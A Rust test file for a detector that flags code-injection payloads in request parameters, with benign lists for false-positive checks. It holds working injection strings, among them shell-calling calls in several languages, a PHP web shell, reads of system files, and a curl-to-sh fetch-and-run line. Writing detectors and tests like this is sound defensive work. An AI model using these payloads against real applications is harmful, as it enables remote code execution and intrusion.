use crate::detect::cases::{are_found, pass, severity};
use crate::detect::Where;
use crate::rule::Severity;

#[test]
fn statements_that_run_something_are_found() {
    are_found(
        &super::DETECTOR,
        Where::Parameter,
        &[
            "system('id')",
            "';phpinfo();//",
            "1;phpinfo()",
            "${@print(system('id'))}",
            "\".system('cat /etc/hosts').\"",
            "__import__('os').system('id')",
            "require('child_process').execSync('id').toString()",
            "global.process.mainModule.require('child_process').exec('id')",
            "java.lang.Runtime.getRuntime().exec(\"id\")",
            "new java.lang.ProcessBuilder('id').start()",
            "subprocess.check_output(['id'])",
            "<?php system($_GET['c']); ?>",
            "<?=`id`?>",
            "print(foo(system('id')))",
            "x\" + require('fs').readFileSync('/x') + \"",
            "';exit(md5('x'));#",
            "a;die(sha1('x'));//",
            "print(md5(\"x\"))",
            "eval(base64_decode('cGhwaW5mbygp'))",
        ],
    );
}

#[test]
fn code_that_is_shown_passes() {
    pass(
        &super::DETECTOR,
        Where::Parameter,
        &[
            "print('hello')",
            "f(x) = sin(x) + 1",
            "items.filter(x => x.price > 3)",
            "call me (or text) later",
            "The call os.system('ls') runs a command in a shell",
            "const fs = require('fs');\nfs.readFileSync('a.txt');\nconsole.log('done');",
            "regex.exec('abc')",
            "sleep (8 hours) is what I need",
            "see open(2) and exec(3)",
            "Math.max(1, 2)",
            "node -e \"require('fs').rmSync('dist', {recursive: true})\"",
            "exit(0)",
            "process.exit(1)",
            "sys.exit(main())",
            "print(len('abc'))",
            "clock.sleep(5)",
            "Pages in PHP begin with <?php and end with ?>",
        ],
    );
}

/// What stands before a call of a shell in a program, and the language.
const BEFORE: &[(&str, &[&str])] = &[
    (
        "python",
        &[
            "import os",
            "x = 1",
            "import os, sys\n\nname = 'a name of some words'",
            "# a comment; with 'some words in it",
            "\"\"\"What this does: it calls os.\nIn many words.\n\"\"\"",
            "for i in range(3):\n    print(i)",
            "if True:\n\tpass",
            "def f(a):\n    return a\n",
            "print('hello', \"there; is\")",
            "a = {\n  'b': 1,\n}",
            "True and None or not False",
        ],
    ),
    (
        "ruby",
        &[
            "require 'open3'",
            "x = 1",
            "puts 'some words in a text'",
            "=begin\nSome words of a comment.\n=end",
            "[1, 2].each do |x|\n  puts x\nend",
            "# a comment",
            "def f(a)\n  a\nend",
        ],
    ),
    (
        "javascript",
        &[
            "const cp = require('child_process');",
            "let x = 1",
            "// a comment of some words",
            "/* more\n of it; */",
            "if (x) {\n  x += 1;\n}",
            "console.log(`some ${x}`);",
        ],
    ),
];

fn calls(language: &str) -> &'static [&'static str] {
    match language {
        "python" => &[
            "os.system('id')",
            "os.system(\"curl http://x | sh\")",
            "print(os.popen('id').read())",
            "import subprocess; subprocess.run(['id'])",
            "r = __import__('subprocess').check_output(cmd, shell=True)",
            "import os as o\no.system('id')",
            "if x: os.system('id')",
            "def g():\n    os.system('id')\ng()",
        ],
        "ruby" => &[
            "system('id')",
            "system \"id\"",
            "x = `id`\nputs x",
            "puts %x(id)",
            "IO.popen('id').read",
            "Open3.capture2('id')",
            "Kernel.system 'id'\nsystem('id')",
            "def g\n  system 'id'\nend\ng",
        ],
        _ => &[
            "require('child_process').execSync('id')",
            "cp.exec('id', console.log)\nrequire('child_process')",
            "const r = cp.spawnSync('id');",
            "function g() {\n  cp.execSync('id');\n}\ng()",
        ],
    }
}

#[test]
fn programs_whose_later_lines_call_a_shell_are_found() {
    let mut missed = Vec::new();
    for (language, parts) in BEFORE {
        for first in *parts {
            for second in *parts {
                for times in [1, 40] {
                    for call in calls(language) {
                        for end in ["\n", "\r\n"] {
                            let before = format!("{first}\n{second}\n").repeat(times);
                            let text = format!("{before}{call}\n").replace('\n', end);
                            if severity(&super::DETECTOR, Where::Parameter, &text)
                                != Some(Severity::Critical)
                            {
                                missed.push(
                                    text.get(text.len().saturating_sub(300)..)
                                        .unwrap_or(&text)
                                        .to_owned(),
                                );
                            }
                        }
                    }
                }
            }
        }
    }
    assert!(missed.is_empty(), "{}: {missed:#?}", missed.len());
}

#[test]
fn a_long_line_of_statements_is_read_to_its_end() {
    let text = format!("{}system('id');", "$x=1;".repeat(2000));
    assert_eq!(
        severity(&super::DETECTOR, Where::Parameter, &text),
        Some(Severity::Critical)
    );
}

#[test]
fn programs_that_call_none_and_what_shows_them_pass() {
    pass(
        &super::DETECTOR,
        Where::Parameter,
        &[
            "import os\nprint(os.getcwd())\nos.remove('a')",
            "import re\nm = re.compile('a')\nm.exec('b')",
            "const m = /a/;\nconst r = m.exec(text);\nconsole.log(r)",
            "import subprocess\n\ndef run(cmd):\n    return subprocess.check_output(cmd)\n",
            "class A {\n  run(cmd) {\n    return execSync(cmd);\n  }\n}",
            "require 'a'\n\ndef run(cmd)\n  system cmd\n  system 'id'\nend\n",
            "To list files, try this:\n\nimport os\nos.system('ls')",
            "Here is what I do\nos.system('ls') lists all of the files\nand then some",
            "# How to list files\n\nYou can use the module os for that.\n\nos.system('ls')",
            "```python\nimport os\nos.system('ls')\n```",
            "> import os\n> os.system('ls')",
            "system(3) is a function;\nsee exec(3) too",
            "The first line\nsystem \"analysis\" and design of it",
            "name: system('x')\nsome words that follow here\n",
            "design.system(dark)\nx = 1",
            "SELECT a FROM b;\nexec('x')",
            "const x = `id`;\nconst y = `ls`;",
            "- `id` prints who\n- `ls` lists",
            "It's system's fault; don't call (them) now",
        ],
    );
    let library = "import subprocess\ndef run(cmd):\n    return subprocess.check_output(cmd)\n";
    assert_eq!(
        severity(&super::DETECTOR, Where::Parameter, library),
        Some(Severity::Notice)
    );
}
